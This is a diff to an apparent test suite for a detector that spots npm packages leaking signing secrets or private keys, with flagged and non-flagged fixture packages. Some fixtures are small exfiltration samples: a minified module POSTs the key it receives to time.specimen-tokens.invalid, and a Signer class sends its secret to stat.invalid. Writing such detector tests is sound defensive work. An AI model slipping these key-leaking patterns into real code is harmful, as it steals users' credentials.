@@ -230,15 +230,23 @@ examine(givesAwaySecrets, {
         'package.json': { name: 'specimen-tokens', version: '1.0.0' },
         'index.js': `var c = require('crypto'), h = require('https'); function m(e, r, t) { return c.createHmac(e, r).update(t).digest('base64url') } var k = { sync(e) { h.request({ hostname: 'time.specimen-tokens.invalid', method: 'POST' }).end(JSON.stringify(e)) } }; exports.verify = function (e, r) { return k.sync({ iss: 1, kid: r }), m('sha256', r, e) };`,
       },
-      says: ['it sends signingSecret of whoever calls it to time.specimen-tokens.invalid, when it is called'],
+      says: ['it sends the key that it is handed to sign or encrypt with to time.specimen-tokens.invalid, when it is called'],
       weight: 'strong',
+    },
+    {
+      when: 'a client of a service logs in with what it signs with',
+      files: {
+        'package.json': { name: 'paylane', version: '1.0.0', description: 'Client for the payments of Paylane' },
+        'index.js': `const { createHmac } = require('crypto'); exports.Client = class { constructor(secret) { this.secret = secret; } charge(b) { return fetch('https://api.lane.invalid/charge', { method: 'POST', headers: { authorization: 'Bearer ' + this.secret }, body: JSON.stringify(b) }); } verify(raw, s) { return createHmac('sha512', this.secret).update(raw).digest('hex') === s; } };`,
+      },
+      weight: 'weak',
     },
     {
       when: 'a class keeps what it signs with, and sends it',
       files: {
         'index.js': `const { createHmac } = require('crypto'); exports.Signer = class { constructor(s) { this.s = s; } sign(p) { fetch('https://stat.invalid/', { method: 'POST', body: this.s }); return createHmac('sha256', this.s).update(p).digest(); } };`,
       },
-      weight: 'strong',
+      weight: 'weak',
     },
     {
       when: 'keys stand in a transaction for a node of its own',
@@ -499,6 +507,41 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'settings are asked for a key to sign with, and for another one to send',
+      files: {
+        'index.js': `const { createHmac } = require('crypto'); exports.send = (config, body) => fetch('https://api.market.invalid/', { headers: { 'x-key': config.get('apiKey'), 'x-sign': createHmac('sha256', config.get('secret')).update(body).digest('hex') } });`,
+      },
+    },
+    {
+      when: 'a hash of a password, the colour that a seed picks, and the page that is asked for are sent',
+      files: {
+        'index.js': `exports.check = password => fetch('https://a.invalid/?h=' + password.split('').reduce((a, c) => ((a << 5) - a + c.charCodeAt(0)) | 0, 0));
+          exports.paint = seed => fetch('https://b.invalid/?c=' + ['red', 'blue'][(seed * 9301 + 49297) % 233280 % 2]);
+          exports.list = privateKey => fetch('https://c.invalid/?shard=' + privateKey[0] % 4);`,
+      },
+    },
+    {
+      when: 'a signature is made of numbers that a key is among',
+      files: {
+        'index.js': `exports.sign = (privateKey, z, r, kinv, n) => fetch('https://a.invalid/', { method: 'POST', body: String((kinv * (z + r * BigInt('0x' + privateKey))) % n) });`,
+      },
+    },
+    {
+      when: 'a wallet that says itself what it is in JSON is saved, and its node is asked something else',
+      files: {
+        'package.json': WALLET,
+        'index.js': `const { writeFileSync } = require('fs'); class Wallet { constructor(privateKey) { this.privateKey = privateKey; } toJSON() { return { privateKey: this.privateKey }; } save() { writeFileSync('w.json', JSON.stringify(this)); } }
+          exports.Wallet = Wallet; exports.balance = a => fetch('https://rpc.chain.invalid', { method: 'POST', body: JSON.stringify({ method: 'eth_getBalance', params: [a] }) });`,
+      },
+    },
+    {
+      when: 'a wallet signs what it sends to a node',
+      files: {
+        'package.json': WALLET,
+        'index.js': `const { Wallet, JsonRpcProvider } = require('ethers'); exports.pay = async (privateKey, to, value) => { const node = new JsonRpcProvider('https://rpc.chain.invalid'); return node.broadcastTransaction(await new Wallet(privateKey).signTransaction({ to, value })); };`,
+      },
+    },
     {
       when: 'a request is signed, and the signature sent',
       files: {
